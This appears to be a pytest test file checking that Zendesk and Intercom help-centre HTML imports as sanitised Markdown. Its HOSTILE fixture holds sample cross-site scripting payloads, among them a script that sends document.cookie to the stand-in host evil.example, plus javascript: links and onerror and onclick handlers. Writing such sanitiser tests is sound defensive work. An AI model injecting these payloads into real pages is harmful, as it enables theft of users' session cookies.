"""Help-centre HTML (Zendesk Guide, Intercom exports) imports as sanitised Markdown (issue 13)."""

from __future__ import annotations

from pathlib import Path

import pytest

from core.db import Database
from knowledge_base import ArticleError, ArticleRepository, render_markdown
from knowledge_base.articles import html_problem
from knowledge_base.html_import import convert_markdown_html, parse_html_article, parse_markdown_with_html

ZENDESK = """<!DOCTYPE html>
<html>
<head>
  <meta charset="utf-8">
  <title>Setting up your new router</title>
  <meta name="keywords" content="router, setup, wifi">
  <style>body { font-family: sans-serif }</style>
  <script>trackPageView()</script>
</head>
<body>
<h1>Setting up your new router</h1>
<p>Most routers are ready in <strong>ten minutes</strong>. See our <a href="https://help.example/st">status page</a>
if the light stays red.</p>
<h2 id="steps">Steps</h2>
<ol>
  <li>Plug the <em>green</em> fibre cable into the wall socket.</li>
  <li>Switch the router on.<ul><li>Wait for the light to turn <b>solid white</b>.</li></ul></li>
</ol>
<h2>Checking the line from a computer</h2>
<pre><code class="language-bash">ping -c 4 192.168.1.1
</code></pre>
<p>Type <code>&lt;Enter&gt;</code> after each command; 1. this is not a list * nor emphasis.</p>
<div class="video"><iframe src="https://player.example.com/embed/123"></iframe></div>
</body>
</html>
"""

HOSTILE = """<h1>Paying your bill</h1>
<p onclick="steal()">Pay by <a href="javascript:alert(document.cookie)">card</a> or
<a href="https://pay.example.com" onmouseover="x()">online</a>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src=x onerror=alert(1)>
<style>p { display: none }</style>
<svg><script>alert(2)</script></svg>
<p>Questions? <a href="mailto:billing@example.com">Email us</a>.</p>
<!-- internal: do not publish -->
"""


def test_zendesk_export_keeps_headings_lists_links_and_code() -> None:
    a = parse_html_article(ZENDESK, "setting-up-your-new-router.html")
    assert (a.id, a.title, a.tags, a.status, a.audience) == (
        "setting-up-your-new-router", "Setting up your new router", ["router", "setup", "wifi"], "draft", "all")
    assert a.body.startswith("Most routers are ready in **ten minutes**. See our [status page](https://help.example/st)")
    assert "## Steps\n\n1. Plug the *green* fibre cable into the wall socket.\n2. Switch the router on." in a.body
    assert "- Wait for the light to turn **solid white**." in a.body
    assert "```bash\nping -c 4 192.168.1.1\n```" in a.body
    assert "`<Enter>`" in a.body and "1\\. this is not a list \\* nor emphasis" in a.body
    assert "trackPageView" not in a.body and "font-family" not in a.body and "iframe" not in a.body
    assert html_problem(a.body) is None


def test_hostile_markup_is_sanitised_and_the_text_kept() -> None:
    a = parse_html_article(HOSTILE, "pay.html")
    assert a.title == "Paying your bill"
    assert a.body == ("Pay by card or\n[online](https://pay.example.com).\n\n"
                      "Questions? [Email us](mailto:billing@example.com).\n")
    html = render_markdown(a.body)
    for bad in ("script", "javascript:", "onclick", "onerror", "onmouseover", "cookie", "internal"):
        assert bad not in html


def test_front_matter_in_an_html_file_wins_over_what_the_html_says() -> None:
    text = ("---\nid: pay-online\ntitle: Pay online\nstatus: published\n---\n"
            "<h1>Old title</h1><p>Use <b>My Account</b>.</p>")
    a = parse_html_article(text, "x.html")
    assert (a.id, a.title, a.status) == ("pay-online", "Pay online", "published")
    assert a.body == "# Old title\n\nUse **My Account**.\n"


def test_html_with_nothing_left_is_refused_naming_the_file() -> None:
    with pytest.raises(ArticleError) as err:
        parse_html_article("<h1>Video</h1><iframe src='https://v.example/1'></iframe><script>x()</script>",
                           "video.html")
    assert str(err.value) == "video: body: has no text once scripts and unsupported markup are removed (from line 1)"


def test_markdown_with_raw_html_blocks_and_inline_html_is_converted_in_place() -> None:
    text = ("---\nid: tv\ntitle: TV\n---\n\n## Remote\n\nPress **Home**, then <b>Settings</b>.\n\n"
            "<table><tr><th>Light</th><th>Means</th></tr><tr><td>Red</td><td>Fault</td></tr></table>\n\n"
            "- keep *this* list\n")
    a = parse_markdown_with_html(text, "tv.md")
    assert "Press **Home**, then **Settings**." in a.body
    assert "| Light | Means |" in a.body and "| Red | Fault |" in a.body
    assert a.body.endswith("- keep *this* list\n")
    assert html_problem(a.body) is None


def test_convert_markdown_html_refuses_what_cannot_be_converted_naming_the_line(
        monkeypatch: pytest.MonkeyPatch) -> None:
    import knowledge_base.html_import as hi

    monkeypatch.setattr(hi, "to_markdown", lambda html, escape=True: "<div>still html</div>")
    with pytest.raises(ArticleError) as err:
        convert_markdown_html("odd.md", "Fine text.\n\n<section>x</section>\n", 5)
    assert str(err.value) == "odd.md: body: HTML on line 7 could not be converted to Markdown ('<section>x</section>')"


def test_import_folder_takes_html_and_markdown_with_html_and_reports_the_rest(
        db: Database, tmp_path: Path) -> None:
    (tmp_path / "router-setup.html").write_text(ZENDESK, encoding="utf-8")
    (tmp_path / "tv.md").write_text("---\nid: tv\ntitle: TV\nstatus: published\n---\nPress <b>Home</b>.\n")
    (tmp_path / "empty.htm").write_text("<script>x()</script>")
    (tmp_path / "notes.txt").write_text("ignored")
    with db.session() as s:
        report = ArticleRepository().import_folder(s, tmp_path)
        assert sorted(report.created) == ["router-setup", "tv"]
        assert [str(e) for e in report.errors] == [
            "empty: body: has no text once scripts and unsupported markup are removed (from line 1)"]
        assert ArticleRepository().get(s, "tv").body == "Press **Home**.\n"
